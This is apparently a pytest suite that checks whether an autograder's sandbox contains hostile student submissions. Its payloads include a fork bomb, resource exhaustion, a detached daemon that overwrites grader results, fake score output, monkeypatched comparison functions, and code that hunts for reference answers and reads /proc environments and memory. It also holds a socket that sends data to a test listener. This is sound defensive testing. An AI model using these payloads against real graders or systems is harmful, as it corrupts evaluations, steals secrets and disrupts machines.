"""Hostile and broken submissions, one or more per threat of the catalogue (issue 3).

Each case starts from alice's correct files and replaces some with hostile code. Every
case must end in a valid results.json written by the grader alone, exactly the broken
items lost (with a message that says what happened), everything else graded normally,
no process of the submission left, outputs untouched later, and no payload side effect.
"""
from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from conftest import GRADE, ROOT, by_item, feedback, run_grade, short_items
from hostile import SLEEP_TOKEN, Listener, build, leftovers

pytestmark = pytest.mark.slow
P1, P2 = ["p1a", "p1b", "p1b_exact"], ["p2a", "p2b", "p2c_f", "p2c_h", "p2c_d"]
P3 = ["p3a", "p3b", "p3c", "p3d", "p3e", "p3e_activation"]

# A daemon that outlives its call, then tries to overwrite every grader output it can find.
DAEMON = """
import os, time, glob
def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1.5)
            for path in glob.glob("/tmp/**/results.json", recursive=True) + glob.glob("{out}/*"):
                try:
                    open(path, "w").write('{"score": 999}')
                except OSError:
                    pass
            try:
                open("{marker}/daemon", "w").write("alive")
            except OSError:
                pass
            os.execv("/bin/sleep", ["sleep", "%s"])
        os._exit(0)
""" % SLEEP_TOKEN

CASES = {
    # 1. loops forever at import, or in one function
    "import_loop": ({"problem3.py": "while True:\n    pass\n"}, P3,
                    {"p3a": "importing problem3.py did not finish"}),
    "function_loop": ({"problem3.py": ("variance_at_layer", "while True:\n        pass")},
                      ["p3b"], {"p3b": "timed out after 2 s"}),
    # 2. sleeps, ignores signals, swallows every exception in a loop
    "sleeps": ({"problem1.py": ("init_variance", "import time\n    time.sleep(1000)")}, ["p1a"],
               {"p1a": "timed out after 2 s"}),
    "ignores_signals": ({"problem1.py": ("relu_init_variance", """import signal
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):
        signal.signal(s, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass""")}, ["p1b_exact"], {"p1b_exact": "timed out"}),
    # 3. memory, disk, files
    "memory_at_once": ({"problem2.py": ("split_weights", "return np.ones(10**10), None")},
                       ["p2a"], {"p2a": "ran out of memory (limit 512 MiB)"}),
    "memory_gradual": ({"problem2.py": ("ugrnn_forward", """hoard = []
    while True:
        hoard.append(np.ones(10**6))""")}, ["p2b"], {"p2b": "ran out of memory"}),
    "fills_disk": ({"problem3.py": ("layer_variance", """with open("big", "wb") as fh:
        while True:
            fh.write(b"0" * 2**20)""")}, ["p3a"], {"p3a": "larger than the limit of 16 MiB"}),
    "many_files": ({"problem3.py": ("sigma_w_for_doubling",
                                    "keep = [open(f'f{i}', 'w') for i in range(100000)]")},
                   ["p3c"], {"p3c": "opened more files than the limit of 256"}),
    # 4. processes, threads, daemons
    "fork_bomb": ({"problem3.py": ("grad_variance", "import os\n    while True:\n        os.fork()")},
                  ["p3d"], {}),
    "threads": ({"problem2.py": ("split_weights", """import threading, time
    for _ in range(10000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()""")},
                ["p2a"], {"p2a": "hit the limit of 64 processes and threads"}),
    "daemon_after_return": ({"problem1.py": ("init_variance", "_daemon()\n    return 1.0 / d_x"),
                             "@problem1.py": DAEMON}, [], {}),
    # 5. exits, interrupts, segfaults
    "sys_exit_at_import": ({"problem1.py": "import sys\nsys.exit(0)\n"}, P1,
                           {"p1a": "could not be imported: SystemExit"}),
    "os_exit_in_call": ({"problem2.py": ("ugrnn_backward", "import os\n    os._exit(3)")},
                        ["p2c_f", "p2c_h", "p2c_d"], {"p2c_f": "exited with code 3"}),
    "keyboard_interrupt": ({"problem3.py": ("layer_variance", "raise KeyboardInterrupt")},
                           ["p3a"], {"p3a": "raised KeyboardInterrupt"}),
    "base_exception_at_import": ({"problem2.py": "raise BaseException('no')\n"}, P2,
                                 {"p2b": "BaseException: no"}),
    "segfault": ({"problem3.py": ("weight_grad_limit", "import ctypes\n    ctypes.string_at(0)")},
                 ["p3e"], {"p3e": "killed by signal 11 (SIGSEGV)"}),
    # 6. fake results, floods, markup
    "fake_results": ({"problem1.py": ("init_variance", """print('{"score": 18, "tests": []}')
    print("All tests passed")
    return d_x ** -0.5""")}, ["p1a"], {"p1a": "standard deviation"}),
    "floods_output": ({"problem3.py": ("layer_variance", """import sys
    for _ in range(3000):  # 300 MB in all
        sys.stdout.write("spam " * 20_000)
        sys.stderr.write("\\x1b[2J\\x1b[31m" * 300)
    return var_prev * (1 + N * N * C * sigma_w)""")}, [], {}),
    "markup": ({"problem1.py": ("init_variance", """print("<script>alert(1)</script>\\x1b[31m")
    raise ValueError("<img src=x onerror=alert(1)>")""")}, ["p1a"], {"p1a": "ValueError"}),
    # 7. writes the grader's outputs, now or later
    "writes_outputs": ({"@problem1.py": """
import glob, os
for pattern in ("/tmp/**/results.json", "/tmp/**/report.html", "{out}/*",
                "/autograder/results/results.json"):
    for path in glob.glob(pattern, recursive=True) or [pattern]:
        try:
            open(path, "w").write('{"score": 999}')
        except OSError:
            pass
"""}, [], {}),
    # 8. monkeypatches numpy, math, builtins in its own process
    "monkeypatch": ({"@problem1.py": """
import builtins, math
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
math.isclose = lambda *a, **k: True
builtins.abs = lambda x: 0
""", "problem1.py": ("init_variance", "return d_x ** -0.5")}, ["p1a"], {}),
    # 9. objects that lie
    "lying_objects": ({"@problem3.py": """
import numpy as np
import torch
class Liar:
    def __eq__(self, other): return True
    def __float__(self): return 0.5
    def __array__(self, *a, **k): raise RuntimeError("no")
    def __reduce__(self): return (open, ("{marker}/reduce", "w"))
class Float(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
class Arr(np.ndarray):
    def __array_ufunc__(self, *a, **k): return np.zeros(())
class Slow(Exception):
    def __str__(self):
        while True:
            pass
def _right(x0, xL_grad, N):
    p = N // 2
    xp = np.pad(x0.numpy(), ((0, 0), (0, 0), (p, p), (p, p)))
    H, W = x0.shape[2:]
    return np.stack([np.stack([np.einsum("boij,bcij->oc", xL_grad.numpy(), xp[:, :, a:a + H, b:b + W])
                               for b in range(N)], -1) for a in range(N)], -2)
""", "problem3.py": [("layer_variance", "return Liar()"),
                     ("variance_at_layer", "return Float(-1.0)"),
                     ("sigma_w_for_doubling", "return np.full(1, -1.0).view(Arr)"),
                     ("grad_variance", "raise Slow()"),
                     ("weight_grad_limit", "return torch.tensor(_right(torch.as_tensor(x0), torch.as_tensor(xL_grad), N), requires_grad=True)")]},
                      ["p3a", "p3b", "p3c", "p3d"], {"p3a": "Liar object", "p3d": "timed out"}),
    # 10. looks for the answers
    "answer_hunt": ({"@problem1.py": """
import gc, os, sys
def _steal():
    try:
        import reference.problem1 as r
        return r.init_variance
    except BaseException:
        pass
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__name__", "") == "init_variance" \\
                and getattr(obj, "__module__", "") != __name__:
            return obj
    roots = {os.getcwd(), os.path.dirname(__file__), "/autograder", "/work", "/tmp", "/root",
             "/home", "/srv", "/opt", "{root}"}
    for root in roots:
        for folder, _, files in os.walk(root):
            if "problem1.py" in files and "reference" in folder:
                try:
                    source = open(os.path.join(folder, "problem1.py")).read()
                except OSError:
                    continue
                scope = {}
                exec(source, scope)
                return scope["init_variance"]
    for pid in os.listdir("/proc"):
        try:
            open(f"/proc/{pid}/environ", "rb").read()
            open(f"/proc/{pid}/mem", "rb").read(1)
        except (OSError, ValueError):
            pass
    return None
""", "problem1.py": ("init_variance",
                    "stolen = _steal()\n    return stolen(d_x) if stolen else 0.123")},
                    ["p1a"], {}),
    # 11. reaches the network
    "network": ({"problem1.py": ("init_variance", """import socket
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(0.5)
            s.connect(("127.0.0.1", {port}))
            s.send(b"leak")
        except OSError:
            pass
    return 1.0 / d_x""")}, [], {}),
    # 12. files named like modules Python or the grader use
    "shadow_modules": ({f"{name}.py": "open('{marker}/shadow', 'w')\nraise SystemExit(1)\n"
                        for name in ("json", "pickle", "io", "grader", "sitecustomize",
                                     "conftest", "numpy", "wire", "confine", "traceback")},
                       [], {}),
    # 13. mutates its inputs and global numeric state
    "global_state": ({"@problem2.py": """
import numpy as np
import torch
np.seterr(all="raise")
np.random.seed(0)
torch.set_default_dtype(torch.float32)
""", "problem2.py": ("split_weights", """Wx, Wh = W[:, :d_x].copy(), W[:, d_x:].copy()
    W[...] = np.nan
    return Wx, Wh""")}, [], {}),
    # 14. not Python, or not where it should be
    "binary_file": ({"problem3.py": b"\x7fELF\x00\x00\x01\x02garbage"}, P3,
                    {"p3a": "could not be imported"}),
    "symlink_out": ({"problem1.py": ROOT / "reference" / "problem1.py"}, P1,
                    {"p1a": "problem1.py was not found"}),
    "cp1252_comment": ({"problem1.py": lambda text: ("# caf\xe9\n" + text).encode("cp1252")},
                       [], {}),
    "tab_error": ({"problem2.py": "def f():\n\tif True:\n        return 1\n"}, P2,
                  {"p2a": "TabError"}),
    # grading still works after all of that, and a correct file in the same run is untouched
}


LATER: list[tuple[str, Path, str]] = []  # outputs to check again once daemons had their chance


def _digest(out: Path) -> str:
    return hashlib.sha256(b"".join((out / n).read_bytes()
                                   for n in ("results.json", "report.html"))).hexdigest()


@pytest.mark.parametrize("case", list(CASES))
def test_hostile_submission_is_contained(case, fast_rubric, tmp_path):
    marker, out = tmp_path / "markers", tmp_path / "out"
    marker.mkdir()
    os.chmod(marker, 0o777)  # only the sandbox's own layers keep it out
    listener = Listener()
    fmt = {"marker": str(marker), "out": str(out), "port": str(listener.port), "root": str(ROOT)}
    build(CASES[case][0], tmp_path / case, fmt)
    start = time.monotonic()
    proc, results = run_grade(tmp_path / case, out, "--rubric", str(fast_rubric))
    elapsed = time.monotonic() - start
    assert proc.returncode == 0, proc.stderr
    assert results is not None and results["extra_data"]["submission"] == case
    _, fail, messages = CASES[case]
    assert short_items(results) == set(fail)
    for item, text in messages.items():
        assert text in by_item(results)[item]["output"], by_item(results)[item]["output"]
    assert "internal_error" not in results["extra_data"]
    assert elapsed < 60
    assert leftovers() == []
    assert listener.close() == []
    LATER.append((case, out, _digest(out)))
    assert os.listdir(marker) == []


def test_outputs_stay_untouched_and_no_payload_ran_later():
    """Hostile daemons strike 1.5 s after their call; by now they would have."""
    assert LATER, "run together with test_hostile_submission_is_contained"
    time.sleep(2.0)
    for case, out, digest in LATER:
        assert _digest(out) == digest, case
        assert json.loads((out / "results.json").read_text())["extra_data"]["submission"] == case
        assert os.listdir(out.parent / "markers") == [], case
    assert leftovers() == []


ROUTES = {
    # The harness makes its PID namespace itself, in a fresh interpreter per process.
    "fresh interpreters": ({"GRADER_LAUNCHER": "spawn"}, []),
    # Not root (as on a container without privileges): no user to drop to; namespaces come
    # from a user namespace and the zygote cannot give each child a PID namespace itself.
    "grader not root": ({}, ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"]),
}


@pytest.mark.parametrize("route", list(ROUTES))
@pytest.mark.parametrize("case", ["daemon_after_return", "fork_bomb", "segfault", "ignores_signals"])
def test_other_routes_to_a_sandbox_contain_as_well(route, case, fast_rubric):
    env, prefix = ROUTES[route]
    base = Path(tempfile.mkdtemp(prefix="hwg-route-"))  # where an unprivileged grader may write
    try:
        os.chmod(base, 0o777)
        marker, out = base / "markers", base / "out"
        marker.mkdir(mode=0o777)
        os.chmod(marker, 0o777)
        fmt = {"marker": str(marker), "out": str(out), "port": "9", "root": str(ROOT)}
        build(CASES[case][0], base / case, fmt)
        rubric = shutil.copy(fast_rubric, base / fast_rubric.name)
        for path in [base, *base.rglob("*")] if prefix else []:
            os.chown(path, 65534, 65534)
        proc = subprocess.run([*prefix, *GRADE, str(base / case), "--out", str(out), "--rubric",
                               str(rubric)], capture_output=True, text=True,
                              timeout=120, cwd=ROOT, env={**os.environ, **env, "HOME": str(base)})
        assert proc.returncode == 0, proc.stderr
        results = json.loads((out / "results.json").read_text())
        layers = results["extra_data"]["sandbox_layers"]
        assert "pid namespace" in layers and "network namespace" in layers
        assert short_items(results) == set(CASES[case][1])
        time.sleep(2.0)  # the daemon would strike 1.5 s after its call
        assert leftovers() == []
        assert os.listdir(marker) == []
    finally:
        shutil.rmtree(base, ignore_errors=True)


CLASS_MIX = ["daemon_after_return", "fork_bomb", "segfault", "memory_at_once", "sleeps",
             "writes_outputs", "monkeypatch", "global_state", "lying_objects"]
CLASS_PEERS = ["c_torch_add_inplace", "c_vectorised_numpy", "b_nan_1a", "m_p2c_assign_torch"]


def test_a_class_mixing_hostile_and_honest_students_grades_each_as_alone(fast_rubric, tmp_path):
    """Hostile students in a class run (shared zygotes, workers side by side) harm no one:
    every student's feedback equals what grading them alone gives, nothing survives."""
    marker, klass, out = tmp_path / "markers", tmp_path / "class", tmp_path / "out"
    marker.mkdir()
    os.chmod(marker, 0o777)
    for case in CLASS_MIX:
        build(CASES[case][0], klass / case, {"marker": str(marker), "out": str(out / case),
                                    "port": "9", "root": str(ROOT)})
    for name in CLASS_PEERS:
        shutil.copytree(ROOT / "tests" / "corpus" / name, klass / name)
    proc = subprocess.run([*GRADE, str(klass), "--out", str(out), "--jobs", "2", "--rubric",
                           str(fast_rubric)], capture_output=True, text=True, timeout=300,
                          cwd=ROOT)
    assert proc.returncode == 0, proc.stderr
    in_class = {s: json.loads((out / s / "results.json").read_text())
                for s in CLASS_MIX + CLASS_PEERS}
    for case in CLASS_MIX:
        assert short_items(in_class[case]) == set(CASES[case][1]), case
    time.sleep(2.0)  # daemons would strike 1.5 s after their call
    assert leftovers() == []
    assert os.listdir(marker) == []
    for student, results in in_class.items():
        _, alone = run_grade(klass / student, tmp_path / "alone" / student,
                             "--rubric", str(fast_rubric))
        assert feedback(results) == feedback(alone), student
